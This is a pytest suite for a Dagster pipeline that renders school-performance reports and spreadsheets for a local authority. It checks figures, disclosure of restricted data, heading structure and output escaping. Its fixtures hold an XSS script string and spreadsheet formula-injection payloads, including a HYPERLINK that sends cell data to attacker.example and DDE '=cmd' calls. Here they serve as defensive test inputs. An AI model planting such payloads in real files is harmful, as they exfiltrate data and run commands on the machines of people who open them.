"""Every report, rendered by its Dagster asset from the bundled LA: published reports in the published folder
with their Excel downloads and the site index, restricted ones only under the restricted folder, figures that
match the marts (asserted by value), a clean published-tree scan, and hostile school names printed as text."""

from __future__ import annotations

import re
import shutil
from itertools import pairwise
from pathlib import Path

import duckdb
import pytest

from dagster_project.lib.quality.published_scan import (
    RESTRICTED_FIELD_NAMES,
    published_text,
    restricted_values,
    scan_published_tree,
)
from dagster_project.lib.reports import booklets, causing_concern_register, gap_report, inspection_briefing
from dagster_project.lib.reports.disclosure_control import load_rule
from dagster_project.lib.reports.report_text import format_date, format_difference, format_measure
from dagster_project.lib.reports.site_builder import published_reports
from dagster_project.lib.warehouse.reader import open_reader

pytestmark = pytest.mark.slow
HOSTILE = "<script>alert(1)</script> & Sons | Primary"
FORMULA_PAYLOADS = {
    "support_offered": '=HYPERLINK("http://attacker.example/?d="&B2, "Support plan")',
    "progress_and_actions": "=cmd|' /C calc'!A0",
    "next_steps": "@SUM(1+1)*cmd|' /C calc'!A0",
    "lead_professional": "+1+1",
}


def _text(path: Path) -> str:
    html = path.read_text(encoding="utf-8")
    body = html.split("<body>", 1)[1]
    body = re.sub(r'src="data:[^"]+"', "", body)
    return (
        re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", body))
        .replace("&amp;", "&")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
    )


def _one(folder: Path, pattern: str) -> Path:
    found = sorted(folder.glob(pattern))
    assert len(found) == 1, f"expected one {pattern} in {folder}, found {found}"
    return found[0]


@pytest.fixture(scope="module")
def warehouse(materialized, pipeline_settings) -> Path:
    return pipeline_settings.duckdb_path


@pytest.fixture(scope="module")
def published(materialized, pipeline_settings) -> Path:
    return pipeline_settings.published_dir


@pytest.fixture(scope="module")
def restricted(materialized, pipeline_settings) -> Path:
    return pipeline_settings.restricted_dir


def _query(warehouse: Path, sql: str, *parameters):
    with duckdb.connect(str(warehouse), read_only=True) as connection:
        return connection.execute(sql, list(parameters)).fetchall()


def test_published_reports_are_html_and_pdf_and_restricted_ones_are_not_published(published, restricted):
    for folder in ("committee_report", "inspection_briefing", "narrowing_the_gap", "partnership_summaries"):
        page = _one(published / folder, "*.html")
        assert page.with_suffix(".pdf").read_bytes().startswith(b"%PDF")
    register = _one(restricted / "causing_concern_register", "*.html")
    assert register.with_suffix(".pdf").is_file() and register.with_suffix(".xlsx").is_file()
    assert list(restricted.glob("booklets/*/*.pdf"))
    published_names = {p.name for p in published.rglob("*")}
    assert not {p.name for p in restricted.rglob("*") if p.is_file()} & published_names
    assert not list(published.rglob("*register*")) and not list(published.rglob("*booklet*"))


def test_index_links_every_published_report_and_an_xlsx_download_of_each_table(published):
    index = (published / "index.html").read_text(encoding="utf-8")
    links = set(re.findall(r'href="([^"]+)"', index)) - {"data:,"}
    pages = {p.relative_to(published).as_posix() for p in published.glob("*/*.html")}
    pdfs = {p.relative_to(published).as_posix() for p in published.glob("*/*.pdf")}
    workbooks = {p.relative_to(published).as_posix() for p in published.glob("downloads/*/*/*.xlsx")}
    assert pages | pdfs | workbooks == links
    reports = published_reports(published)
    assert {r.section for r in reports} == {
        "Termly committee report",
        "Monthly inspection briefing",
        "Narrowing the gap",
        "Partnership summaries",
    }
    committee = next(r for r in reports if r.section == "Termly committee report")
    assert {"Inspections this term", "Support categories", "Trends KS2"} <= {name for name, _ in committee.downloads}


def test_published_tree_holds_no_restricted_field_name_or_value(published, warehouse):
    values = restricted_values(warehouse)
    assert len(values) > 5, "the scan needs restricted values to look for"
    assert scan_published_tree(published, values) == []


def test_the_scan_finds_a_restricted_value_planted_in_a_published_page(published, warehouse, tmp_path):
    copy = tmp_path / "published"
    shutil.copytree(published, copy)
    leaked = sorted(restricted_values(warehouse))[0]
    page = _one(copy / "committee_report", "*.html")
    page.write_text(page.read_text(encoding="utf-8").replace("</main>", f"<p>{leaked}</p></main>"), encoding="utf-8")
    (copy / "notes.csv").write_text("urn,lead_professional\n1,someone\n", encoding="utf-8")
    findings = scan_published_tree(copy, [leaked])
    assert {(f.path.name, f.kind) for f in findings} == {(page.name, "restricted value"), ("notes.csv", "field name")}
    assert "lead_professional" in RESTRICTED_FIELD_NAMES


def test_committee_report_figures_match_the_marts(published, warehouse):
    text = _text(_one(published / "committee_report", "*.html"))
    ((value, national, unit),) = _query(
        warehouse,
        "select la_value, national_value, unit from rpt_committee__la_headlines "
        "where measure_code = 'ks2_rwm_expected_pct' order by academic_year desc limit 1",
    )
    measure = "Reading, writing and maths: % meeting the expected standard"
    assert f"{measure} {format_measure(value, unit)} {format_measure(national, unit)}" in text
    ((concern,),) = _query(warehouse, "select count(*) from fct_school_support_category where is_causing_concern")
    assert f"There are {concern} schools causing concern" in text
    ((region,),) = _query(
        warehouse,
        """
        with region as (select region_name from rpt_report__la_measures
                        where la_code = (select la_code from rpt_report__context) limit 1)
        select sum(value * pupils) / sum(pupils) from rpt_report__la_measures
        where geography_level = 'la' and pupil_group = 'all' and measure_code = 'ks2_rwm_expected_pct'
          and academic_year = (select max(academic_year) from rpt_report__la_measures where key_stage = 'KS2')
          and region_name = (select region_name from region) and value is not null
        """,
    )
    assert re.search(
        rf"Reading, writing and maths: % meeting the expected standard( \S+){{4}} {format_measure(region, 'percent')}",
        text,
    )
    this_term = """
        select school_name from rpt_committee__inspections as inspection
        join int_report_term as term using (academic_year, term_code)
    """
    for (name,) in _query(warehouse, this_term):
        assert name in text


def test_committee_report_inspections_show_the_report_card_wording_of_the_shared_outcome_model(published, warehouse):
    """A report-card inspection (from 10 November 2025) reads as its report card, not 'Not graded', and the
    committee report, the briefing and the booklets take it from int_ofsted_inspection_outcomes."""
    text = _text(_one(published / "committee_report", "*.html"))
    rows = _query(
        warehouse,
        """
        select term.school_name, term.urn, term.publication_date, outcome.outcome_label, outcome.movement
        from rpt_committee__inspections as term
        join int_report_term using (academic_year, term_code)
        join int_ofsted_inspection_outcomes as outcome
          on outcome.urn = term.urn and outcome.publication_date = term.publication_date
         and outcome.generations_back = 0
        where outcome.inspection_regime = 'report_card' and outcome.bears_judgement
        order by term.publication_date, term.urn
        """,
    )
    assert rows, "the bundled data has report-card inspections published this term"
    for name, urn, published_on, label, movement in rows:
        assert label.startswith("Report card: ") and "safeguarding" in label
        assert f"{name} {urn} {format_date(published_on)} {label} " in text
        assert movement in text
    assert "Not graded" not in text
    briefing = _query(
        warehouse,
        """
        select count(*) from rpt_inspection_briefing__inspections as briefing
        join int_ofsted_inspection_outcomes as outcome using (urn, inspection_number)
        where briefing.overall_effectiveness_label is distinct from outcome.outcome_label
        """,
    )
    assert briefing == [(0,)]


def test_inspection_briefing_lists_every_report_published_in_its_month(published, warehouse):
    page = _one(published / "inspection_briefing", "*.html")
    text = _text(page)
    rows = _query(
        warehouse,
        """
        select school.school_name, history.publication_date
        from int_school_inspection_history as history
        join dim_school as school using (urn)
        where history.generations_back = 0 and school.is_la_school and school.governance in ('maintained', 'academy')
          and strftime(history.publication_date, '%Y-%m') = ?
        """,
        # The latest month the Ofsted data covers to its end (28 February 2026: February).
        inspection_briefing.default_month(inspection_briefing.ofsted_data_date(warehouse)),
    )
    assert rows, "the bundled data has inspections in the briefing month"
    for name, published_on in rows:
        assert f"{name} " in text and format_date(published_on) in text
    noun = "report was" if len(rows) == 1 else "reports were"
    assert f"{len(rows)} Ofsted inspection {noun} published" in text


def test_inspection_briefing_lists_the_ofsted_readiness_schools_soonest_due_first(published, warehouse):
    """Section 3 lists every school of rpt_inspection_briefing__readiness (overdue or due within two terms of the
    data date) in due-date order, with its due date in words; the bundled LA has schools on the list."""
    text = _text(_one(published / "inspection_briefing", "*.html"))
    # pandoc prints apostrophes typographically (St Hilda’s)
    section = text.split("3. Ofsted readiness", 1)[1].split("Notes", 1)[0].replace("\u2019", "'")
    rows = _query(
        warehouse,
        "select school_name, due_by from rpt_inspection_briefing__readiness order by due_by, school_name, urn",
    )
    assert rows, "the bundled data has schools overdue or due within two terms"
    assert f"{len(rows)} schools are on the list" in section
    positions = [section.index(f"{name} ") for name, _ in rows]
    assert positions == sorted(positions)
    for name, due_by in rows:
        assert format_date(due_by) in section, name


def test_gap_report_la_gap_and_widest_school_gap_match_fct_disadvantaged_gap(published, warehouse):
    text = _text(_one(published / "narrowing_the_gap", "*.html"))
    ((year, gap, unit),) = _query(
        warehouse,
        "select academic_year, disadvantaged_gap, unit from fct_disadvantaged_gap where geography_level = 'la' "
        "and la_code = (select la_code from rpt_report__context) and measure_code = 'ks2_rwm_expected_pct' "
        "order by academic_year desc limit 1",
    )
    assert f"In {year} the gap for disadvantaged pupils" in text and format_difference(gap, unit) in text
    widest = _query(
        warehouse,
        "select school_name, disadvantaged_gap from rpt_gap__school_gaps where measure_code = 'ks2_rwm_expected_pct' "
        "and academic_year = ? and disadvantaged_pupils >= ? and disadvantaged_value is not null "
        "order by disadvantaged_gap, urn limit 1",
        year,
        load_rule().min_pupils_to_name_school,  # a gap table names only schools with this many disadvantaged pupils
    )
    name, school_gap = widest[0]
    assert re.search(rf"{re.escape(name)} \d+ \d+ \d+% {format_difference(school_gap, 'percent')}", text)


def test_partnership_summaries_name_no_school_and_no_urn_in_the_page_or_its_downloads(published, warehouse):
    """Aggregates only: no school name or URN of the LA (dim_school) in the page, its PDF's text or a download, no
    adviser's name, and no support category counted; the figures of a partnership match rpt_grouping__summaries."""
    from tests.pdf_text import layout

    page = _one(published / "partnership_summaries", "*.html")
    downloads = sorted((published / "downloads" / "partnership_summaries").rglob("*.xlsx"))
    assert downloads, "the page's tables are downloadable"
    texts = [_text(page), layout(page.with_suffix(".pdf")).text, *(published_text(path) for path in downloads)]
    schools = _query(warehouse, "select urn, school_name from dim_school where is_la_school")
    advisers = _query(warehouse, "select adviser_name from rpt_grouping__caseloads")
    assert schools and advisers
    for text in texts:
        tokens = set(re.findall(r"\d+", text))
        assert not {str(urn) for urn, _ in schools} & tokens
        assert not [name for _, name in schools if re.search(rf"\b{re.escape(name)}\b", text)]
        assert not [name for (name,) in advisers if name in text]
        assert "Good but of concern" not in text and "causing concern" not in text.lower()
    ((name, value, year),) = _query(
        warehouse,
        "select grouping_name, grouping_value, academic_year from rpt_grouping__summaries "
        "where grouping_type = 'partnership' and figure_code = 'ks2_rwm_expected_pct' and not is_suppressed "
        "and academic_year = (select max(academic_year) from rpt_grouping__summaries) "
        "order by grouping_name limit 1",
    )
    assert year in page.name
    assert re.search(rf"{re.escape(name)} \d+ [\d,]+ {format_measure(value, 'percent')}", _text(page))


def test_register_lists_the_register_schools_with_their_fields(restricted, warehouse):
    text = _text(_one(restricted / "causing_concern_register", "*.html"))
    with open_reader(warehouse) as connection:
        frame = causing_concern_register.load_register(connection)
    assert len(frame) > 0
    assert set(frame["built_from"]) == {causing_concern_register.FROM_RETURNS}  # the synthetic LA's returns
    for row in frame.to_dict("records"):
        assert f"{row['school_name']} (URN {int(row['urn'])})" in text
    for heading in ("Key concerns", "Support offered", "Next steps", "Lead professional", "Months on register"):
        assert heading in text
    assert frame["lead_professional"].dropna().iloc[0] in text


def test_one_booklet_per_maintained_school_with_its_own_figures(restricted, warehouse):
    ((expected,),) = _query(
        warehouse,
        "select count(*) from dim_school where is_la_school and is_maintained and is_open and phase <> 'nursery'",
    )
    ((nurseries,),) = _query(
        warehouse,
        "select count(*) from dim_school where is_la_school and is_maintained and is_open and phase = 'nursery'",
    )
    ((booklet_nurseries,),) = _query(warehouse, "select count(*) from rpt_booklet__schools where phase = 'nursery'")
    assert nurseries > 0 and booklet_nurseries == 0  # nursery schools have no KS2 / KS4 results: no booklet
    pages = sorted(restricted.glob("booklets/*/*.html"))
    assert len(pages) == expected == len(sorted(restricted.glob("booklets/*/*.pdf")))
    urn, name, year, value = _query(
        warehouse,
        """
        select m.urn, s.school_name, m.academic_year, m.value
        from rpt_booklet__measures m join rpt_booklet__schools s using (urn)
        where m.measure_code = 'ks2_rwm_expected_pct' and m.pupil_group = 'all' and m.value is not null
          and m.pupils > 5
        order by m.academic_year desc, m.urn limit 1
        """,
    )[0]
    page = _one(pages[0].parent, f"{urn}_*.html")
    text = _text(page)
    assert name in text and "Areas to investigate" in text and "95% confidence interval" in text
    assert re.search(
        rf"Reading, writing and maths: % meeting the expected standard( \S+)* {format_measure(value, 'percent')}", text
    )
    assert "Line chart of" in page.read_text(encoding="utf-8")  # trend chart alt text
    others = _query(warehouse, "select school_name from rpt_booklet__schools where urn <> ? limit 5", urn)
    assert not any(f"{other} " in text for (other,) in others if other not in name)


def test_every_report_has_one_title_and_headings_in_order_with_no_empty_section(published, restricted):
    """One h1 (the title, never repeated), no level skipped (h1 -> h2 -> h3), and no heading directly followed by
    a heading of the same or a higher level (an empty section must say 'none this month' or the like)."""
    pages = [*published.glob("*/*.html"), *restricted.glob("causing_concern_register/*.html")]
    pages += sorted(restricted.glob("booklets/*/*.html"))[:3] + sorted(restricted.glob("profiles/*/*.html"))[:3]
    for page in pages:
        html = page.read_text(encoding="utf-8")
        levels = [int(level) for level in re.findall(r"<h([1-6])[\s>]", html)]
        assert levels.count(1) == 1 and levels[0] == 1, (page.name, levels)
        assert all(after <= before + 1 for before, after in pairwise(levels)), (page.name, levels)
        empty = re.findall(r"</h([1-6])>\s*<h([1-6])", html)
        assert not [pair for pair in empty if int(pair[1]) <= int(pair[0])], (page.name, empty)


def test_data_sources_name_every_source_with_versions_in_words_and_la_returns_only_when_restricted(
    published, restricted, warehouse
):
    committee = _text(_one(published / "committee_report", "*.html"))
    for source in ("Pupil absence in schools in England", "Statistical neighbours", "Local authority and region codes"):
        assert source in committee
    ((version, newest_file),) = _query(
        warehouse,
        "select data_version, max(source_file) from rpt_report__data_sources where source_name like 'Ofsted%' "
        "group by data_version",
    )
    assert re.fullmatch(r"(all|latest) inspections as at \d{1,2} [A-Z][a-z]+ \d{4}", version)
    assert f"{version} " in committee and newest_file in committee
    assert "as_at" not in committee.split("Data sources and versions", 1)[1].replace(newest_file, "")
    returns = _query(warehouse, "select source_name, data_version from rpt_report__data_sources where is_restricted")
    assert returns, "the bundled LA has returns in force"
    register = _text(_one(restricted / "causing_concern_register", "*.html"))
    for name, as_at in returns:
        assert f"{name} not applicable {as_at}" in register
        for page in published.glob("*/*.html"):
            assert name not in _text(page), page


def test_every_report_states_its_sources_versions_and_data_date(published, restricted):
    pages = [*published.glob("*/*.html"), _one(restricted / "causing_concern_register", "*.html")]
    pages.append(sorted(restricted.glob("booklets/*/*.html"))[0])
    pages.append(sorted(restricted.glob("profiles/*/*.html"))[0])
    for page in pages:
        text = _text(page)
        assert "Data sources and versions" in text, page
        assert "The latest data in this report is dated" in text, page
        assert "each source has its own date and version" in text, page
        assert re.search(r"(provisional|revised|final)", text), page


@pytest.fixture(scope="module")
def hostile_warehouse(warehouse, tmp_path_factory) -> Path:
    """A copy of the warehouse where every school report table names one school hostilely."""
    copy = tmp_path_factory.mktemp("hostile") / "warehouse.duckdb"
    shutil.copyfile(warehouse, copy)
    month = inspection_briefing.default_month(inspection_briefing.ofsted_data_date(warehouse))
    with duckdb.connect(str(copy)) as connection:
        (urn,) = connection.execute(
            "select urn from rpt_inspection_briefing__inspections "
            "where strftime(publication_month, '%Y-%m') = ? order by urn limit 1",
            [month],
        ).fetchone()
        for table in (
            "rpt_inspection_briefing__inspections",
            "rpt_gap__school_gaps",
            "rpt_booklet__schools",
            "dim_school",
        ):
            connection.execute(f"update {table} set school_name = ? where urn = ?", [HOSTILE, urn])
        connection.execute(  # a school on the briefing's Ofsted-readiness list
            "update rpt_inspection_briefing__readiness set school_name = ? "
            "where urn = (select min(urn) from rpt_inspection_briefing__readiness)",
            [HOSTILE],
        )
        connection.execute(  # the widest gap of the latest year among schools a gap table may name
            "update rpt_gap__school_gaps set school_name = ? where urn in "
            "(select urn from rpt_gap__school_gaps where disadvantaged_pupils >= ? and disadvantaged_value is not null "
            "and academic_year = (select max(academic_year) from rpt_gap__school_gaps) "
            "order by disadvantaged_gap limit 1)",
            [HOSTILE, load_rule().min_pupils_to_name_school],
        )
        connection.execute(f"update {causing_concern_register.REGISTER_TABLE} set key_concerns = ?", [HOSTILE])
        # free text from the LA's register return that a spreadsheet would run as a formula (OWASP)
        for column, payload in FORMULA_PAYLOADS.items():
            connection.execute(f"update {causing_concern_register.REGISTER_TABLE} set {column} = ?", [payload])
    return copy


def _assert_printed_as_text(page: Path) -> None:
    html = page.read_text(encoding="utf-8")
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; Sons | Primary" in html


def test_hostile_school_names_render_as_text_in_every_report(hostile_warehouse, tmp_path):
    briefing = inspection_briefing.build_inspection_briefing(hostile_warehouse, tmp_path / "p", engine="pandoc")
    _assert_printed_as_text(briefing.html)
    gaps = gap_report.build_gap_report(hostile_warehouse, tmp_path / "p", engine="pandoc")
    _assert_printed_as_text(gaps.html)
    register = causing_concern_register.build_register(hostile_warehouse, tmp_path / "r", engine="pandoc")
    _assert_printed_as_text(register.html)
    (urn,) = _query(hostile_warehouse, "select urn from rpt_booklet__schools where school_name = ?", HOSTILE)[0] or (
        None,
    )
    if urn is not None:
        built = booklets.build_booklets(hostile_warehouse, tmp_path / "r", engine="pandoc", urns=[urn])
        _assert_printed_as_text(built[0].html)


def test_register_and_support_category_spreadsheets_write_formula_text_as_text(hostile_warehouse, tmp_path):
    """Every xlsx/csv the project writes holds the returns' free text as text: opening the restricted register
    must never run `=HYPERLINK(...)` or `=cmd|...` (lib/reports/spreadsheets.py)."""
    from openpyxl import load_workbook

    from dagster_project.lib.reports.restricted_exports import export_support_categories
    from tests.unit.test_spreadsheets import formulas_in

    register = causing_concern_register.build_register(hostile_warehouse, tmp_path / "r", engine="pandoc")
    assert register.source == causing_concern_register.FROM_RETURNS
    assert formulas_in(register.xlsx) == []
    sheet = load_workbook(register.xlsx).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    for payload in FORMULA_PAYLOADS.values():
        assert cells[payload].data_type == "s" and cells[payload].quotePrefix, payload
    months = [row[8] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert any(isinstance(value, int) for value in months), "months on register are numbers"
    csv_path, xlsx_path = export_support_categories(hostile_warehouse, tmp_path / "r")
    assert formulas_in(xlsx_path) == []
    assert "not_secure" not in csv_path.read_text(encoding="utf-8-sig")  # capacity in words


def test_committee_downloads_hold_numbers_an_analyst_can_sort_and_sum(published, warehouse):
    from openpyxl import load_workbook

    folder = _one(published / "downloads" / "committee_report", "*")
    ((year, value, difference),) = _query(
        warehouse,
        "select academic_year, la_value, la_minus_national from rpt_committee__la_headlines "
        "where measure_code = 'ks2_rwm_expected_pct' order by academic_year desc limit 1",
    )
    sheet = load_workbook(folder / f"headlines-ks2-{year}.xlsx").active
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value.startswith("Reading, writing and maths: % meeting"))
    la_cell, difference_cell = row[1], row[header.index("Difference from national")]
    assert la_cell.value == pytest.approx(round(value) / 100) and la_cell.number_format == "0%"
    assert difference_cell.value == round(difference) and difference_cell.data_type == "n"
    categories = load_workbook(folder / "support-categories.xlsx").active
    schools = [row[1] for row in categories.iter_rows(min_row=2, values_only=True)]
    ((categorised,),) = _query(warehouse, "select sum(school_count) from rpt_committee__category_distribution")
    assert sum(schools) == categorised
    as_text = [
        (workbook.name, cell.coordinate, cell.value)
        for workbook in folder.glob("*.xlsx")
        for column in load_workbook(workbook).active.iter_cols()
        if column[0].value != "URN"  # an identifier, kept as written
        for cell in column[1:]
        if isinstance(cell.value, str) and re.fullmatch(r"[+\u2212-]?[\d,.]+%?", cell.value)
    ]
    assert as_text == [], "numbers written as text"


def test_booklet_file_names_transliterate_accented_school_names():
    assert booklets.booklet_stem(900144, "St Thérèse's Catholic Primary School") == (
        "900144_st-therese-s-catholic-primary-school"
    )


@pytest.mark.parametrize(
    ("as_at", "month"),
    [("2026-02-28", "2026-02"), ("2026-02-16", "2026-01"), ("2024-12-31", "2024-12"), ("2025-01-01", "2024-12")],
)
def test_briefing_month_is_the_latest_month_the_ofsted_data_covers_to_its_end(as_at: str, month: str) -> None:
    assert inspection_briefing.default_month(as_at) == month
